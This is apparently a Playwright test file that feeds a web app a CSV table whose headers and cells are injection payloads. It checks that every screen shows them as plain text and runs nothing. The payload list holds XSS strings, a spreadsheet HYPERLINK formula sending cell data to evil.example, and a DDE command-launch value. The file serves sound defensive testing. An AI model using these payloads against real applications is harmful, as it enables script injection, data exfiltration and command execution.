"""Tables that attack the app: their headers and cells are shown as text and run nothing."""

from __future__ import annotations

import csv

import pytest
from playwright.sync_api import expect
from tests.web.browser.walking import walk

from shoal.web.text.open import PERSON_ROWS

HACK = "window.hacked=1"
MARKS = [
    f'<img src=x onerror="{HACK}">',
    f'" :label="{HACK}',
    f"' onclick='{HACK}' x='",
    f"</script><script>{HACK}</script>",
    f"{{{{constructor.constructor('{HACK}')()}}}}",
    f"${{{HACK}}}",
    f"javascript:{HACK}",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[link](javascript:alert(1)) **bold**",
]
TABS = ["Alternatives", "Side by side", "Risk in words", "Levels", "Usefulness", "Evidence"]


@pytest.fixture
def hostile(tmp_path):
    """People whose every column name and text cell is an attack."""
    path = tmp_path / "people.csv"
    names = ["age", "sex", "postcode", "diagnosis", "town", "status"]
    with path.open("w", newline="") as file:
        out = csv.writer(file)
        out.writerow([f"{name} {mark}" for name, mark in zip(names, MARKS, strict=False)])
        for i in range(240):
            texts = [MARKS[(i // (column + 1)) % len(MARKS)] for column in range(5)]
            out.writerow([20 + i % 50, *texts])
    return path


def test_a_hostile_table_runs_nothing_on_any_screen(serve, visit, hostile):
    server = serve(hostile)
    page = visit(server)
    shown = []

    def look(step):
        shown.append(page.locator("body").inner_text())
        assert page.evaluate("window.hacked") is None
        assert page.locator("img[src=x], body script:not([src]) ~ img").count() == 0

    page.get_by_role("radio", name=PERSON_ROWS).click()
    walk(page, look)
    for name in TABS:
        page.get_by_role("tab", name=name).click()
        expect(page.get_by_role("tab", name=name)).to_have_attribute("aria-selected", "true")
        look(name)
    assert any(MARKS[0] in text for text in shown)  # as text
    assert page.dialogs == page.problems == []
    assert {url.split("/")[2] for url in page.asked if url.startswith("http")} == {server.host}
    assert server.read_errors() == ""
